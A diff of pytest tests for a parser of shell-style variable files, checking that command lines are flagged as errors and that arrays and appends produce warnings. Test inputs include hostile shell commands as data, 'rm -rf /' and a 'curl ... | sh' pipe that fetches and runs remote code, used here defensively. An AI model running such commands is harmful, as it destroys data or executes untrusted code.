@@ -264,14 +264,21 @@ def test_clean_file_with_comments_export_and_escapes() -> None:
 
 
 @pytest.mark.parametrize(
-    ("line", "column"),
-    [("rm -rf /", 1), ("curl -s http://x/y | sh", 1), ("  echo hi", 3), ("A=1 rm -rf /", 5),
-     ("A=1;rm x", 4), ("A=1 B=2", 5), ("A=(x y)", 3), ("A=x>f", 4), ("A=x&", 4), ("export A", 1),
-     ("A+=x", 1)],
+    ("line", "column", "a"),
+    [("rm -rf /", 1, None), ("curl -s http://x/y | sh", 1, None), ("  echo hi", 3, None),
+     ("A=1 rm -rf /", 5, None), ("A=1;rm x", 5, "1"), ("A=x>f", 4, "x"), ("A=x&", 4, None)],
 )  # fmt: skip
-def test_command(line: str, column: int) -> None:
+def test_command(line: str, column: int, a: str | None) -> None:
+    # A=1 cmd: A is cmd's environment only; A=x>f: bash sets A and creates f; A=x&: a subshell
     values, diags = read(f"{OK}{line}\n")
     assert diags == [("contextsh.command", ERROR, 3, column)]
+    assert values.get("A") == a
+
+
+@pytest.mark.parametrize(("line", "column"), [("A=(x y)", 1), ("A+=x", 1), ("B=1 A+=x", 5)])
+def test_cannot_tell_arrays_and_appends(line: str, column: int) -> None:
+    values, diags = read(f"{OK}{line}\n")
+    assert diags == [("contextsh.cannot-tell", WARNING, 3, column)]
     assert "A" not in values
 
 
